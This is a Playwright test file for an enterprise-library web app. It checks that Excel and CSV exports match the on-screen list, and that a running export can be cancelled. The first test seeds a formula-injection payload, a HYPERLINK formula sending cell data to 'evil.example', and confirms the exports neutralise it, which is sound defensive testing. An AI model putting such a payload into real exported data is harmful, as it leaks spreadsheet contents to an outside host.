import type { Page } from '@playwright/test';
import { expectAccessible } from '../support/axe.ts';
import { downloadOf, exportStartedBy } from '../support/records/exports.ts';
import { enter, libraryWith } from '../support/records/enterprises.ts';
import { expect, test } from '../support/journey.ts';
import { withTableLock } from '../support/records/table-lock.ts';
import { hasFormula, readCsv, readSheet } from '../support/records/workbook.ts';

const WORK = { timeout: 20_000 };

/** Exports the list and returns the downloaded file. */
async function exportAs(page: Page, format: 'Excel' | 'CSV'): Promise<Buffer> {
  await page.getByRole('button', { name: '导出', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: '导出企业库' });
  await dialog.getByRole('radio', { name: new RegExp(format) }).check();
  const start = () => dialog.getByRole('button', { name: '开始导出' }).click();
  return (await downloadOf(page, await exportStartedBy(page, start))).content;
}

test('ENG-07 the workbook and the csv contain what the list shows, and no formula', async ({
  page,
  centre,
  signIn,
}) => {
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")长江';
  await enter(centre, evil, { regiCapital: '1234567.80', level: 'A', enterpriseType: ['CBEC', 'LOGISTICS'] });
  await enter(centre, '长江导出,"引号"与\n换行有限公司', { scope: '不导出', estDate: '2020-02-29' });
  await signIn('admin', { at: libraryWith('长江') });
  const grid = page.getByRole('grid', { name: '企业库' });
  await expect(grid.locator('[data-cell=enterpriseName]').filter({ hasText: '点我' })).toBeVisible();
  const shown = await grid.locator('[data-cell=enterpriseName]').allInnerTexts();
  const headings = await grid.getByRole('columnheader').allInnerTexts();

  const workbook = await exportAs(page, 'Excel');
  expect(hasFormula(workbook)).toBe(false);
  const [head = [], ...rows] = readSheet(workbook);
  expect(head).toEqual(headings.map((text) => text.trim()).filter((text) => text && text !== '操作'));
  const flat = (text: string) => text.replaceAll(/\s+/g, ' ').trim();
  expect(rows.map(([name = '']) => flat(name))).toEqual(shown.map(flat));
  const row = rows.find(([name]) => name === evil) ?? [];
  expect(row[head.indexOf('注册资本(万元)')]).toBe('1234567.80');
  expect(row[head.indexOf('企业类型')]).toBe('跨境电商企业、物流企业');
  expect(row[head.indexOf('企业分级')]).toBe('重点');

  const table = readCsv(await exportAs(page, 'CSV'));
  expect(table[0]).toEqual(head);
  // A spreadsheet program displays it as text and does not evaluate it.
  expect(table.flat()).toContain(`'${evil}`);
  expect(table.flat().filter((cell) => /^[=+@-]/.test(cell))).toEqual([]);
});

test('ENG-07 a running export of selected rows can be stopped and is then not offered for download', async ({
  page,
  centre,
  signIn,
}) => {
  await enter(centre, '岷江停止导出有限公司');
  await signIn('admin', { at: libraryWith('岷江停止导出') });
  const grid = page.getByRole('grid', { name: '企业库' });
  await grid.getByRole('row').nth(1).getByRole('checkbox').check();
  await page.getByRole('button', { name: '批量导出' }).click();
  const dialog = page.getByRole('dialog', { name: '导出企业库' });
  await expect(dialog.getByRole('radio', { name: '已选的 1 条' })).toBeChecked();
  await expectAccessible(page, 'export');
  const start = () => dialog.getByRole('button', { name: '开始导出' }).click();
  const line = await withTableLock(
    centre,
    { table: 'biz_enterprise', mode: 'access exclusive' },
    async () => {
      const line = await exportStartedBy(page, start);
      await expect(line.getByRole('progressbar')).toBeVisible();
      await line.getByRole('button', { name: '取消' }).click();
      await expect(line.getByText(/已取消/)).toBeVisible(WORK);
      return line;
    },
  );
  await expect(line.getByRole('button', { name: '下载' })).toHaveCount(0);
});
